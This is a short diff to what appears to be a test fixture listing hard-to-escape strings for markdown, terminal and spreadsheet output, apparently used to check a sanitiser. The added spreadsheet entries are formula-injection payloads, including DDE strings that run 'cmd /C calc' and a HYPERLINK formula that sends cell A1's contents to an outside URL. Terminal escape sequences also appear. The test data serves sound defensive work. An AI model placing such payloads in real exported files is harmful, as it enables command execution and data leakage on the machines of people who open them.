@@ -27,6 +27,10 @@ WORDS = (
     "*strong* _em_ ~~gone~~ `code` | cell | a_b_c",
     "a\n\n# b\n\n---\n| - |",
     "`x`{=html} \\` \\\\` \\[x](y)",
+    # spreadsheets
+    "=HYPERLINK(\"https://x.org?\"&A1)", "=cmd|' /C calc'!A0", "+SUM(1;2)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0", "'=1+1", "''@x",
     # the terminal
     "Q \x1b[2J\x1b[1;1H gone",
     "\x1b]0;title\x07 \x1b]8;;https://x.org\x1b\\link \x9b31m",
